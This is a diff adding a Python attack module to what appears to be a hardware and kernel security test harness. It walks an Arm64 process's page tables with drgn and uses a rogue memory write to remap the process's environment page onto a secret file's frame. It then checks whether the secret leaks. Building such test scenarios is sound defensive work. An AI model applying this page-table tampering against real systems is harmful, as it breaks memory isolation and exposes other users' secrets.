@@ -1,0 +1,47 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Patch a page table: a process has a page of somebody else's."""
+
+from drgn.helpers.linux.pid import find_task
+
+from harness.devices.attacks.attack import ON_KERNEL_MEMORY, Attack, Result
+from harness.devices.attacks.scene import PAGE, Scene
+from harness.devices.attacks.verdicts import damage
+
+ENTRY, LEVEL_BITS, PAGE_BITS, ADDRESS_BITS = 8, 9, 12, 64
+FRAME = 0x0000_FFFF_FFFF_F000
+"""The bits of an output address in a descriptor, with 4 KiB pages (Arm ARM, D8.3)."""
+
+START = """
+HARMLESS=yes sleep 1000 > /dev/null 2>&1 &
+until grep -q HARMLESS /proc/$!/environ; do :; done
+echo $!
+"""
+"""A process that has begun to be what it will be: before that it has its parent's memory."""
+
+
+def run(scene: Scene) -> Result:
+    """Let the page of a process's environment be the page of a secret file."""
+    secret, wanted = scene.secret_file()
+    pid = scene.sh(START)
+    place = _entry(scene, int(pid))
+    old = int.from_bytes(scene.memory.read(place, ENTRY), "little")
+    new = (old & ~FRAME | wanted).to_bytes(ENTRY, "little")
+    scene.rogue.write(place, new)
+    seen = scene.guest.agent.read_file(f"/proc/{pid}/environ")
+    shown = "the secret" if secret in seen else repr(seen[:24])
+    return damage(scene, place, new, secret in seen, f"its environment shows {shown}")
+
+
+def _entry(scene: Scene, pid: int) -> int:
+    """Where the last level's entry for the start of a process's environment lies."""
+    mm = find_task(scene.types.program, pid).mm
+    address: int = mm.env_start.value_()
+    bits = ADDRESS_BITS - int(scene.types.vmcoreinfo("NUMBER(TCR_EL1_T1SZ)"), 0)
+    table = scene.phys(mm.pgd[0])
+    for shift in reversed(range(PAGE_BITS, bits, LEVEL_BITS)):
+        place = table + (address >> shift) % (PAGE // ENTRY) * ENTRY
+        table = int.from_bytes(scene.memory.read(place, ENTRY), "little") & FRAME
+    return place
+
+
+ATTACK = Attack("maps a secret into a process by its page table", run, ON_KERNEL_MEMORY)
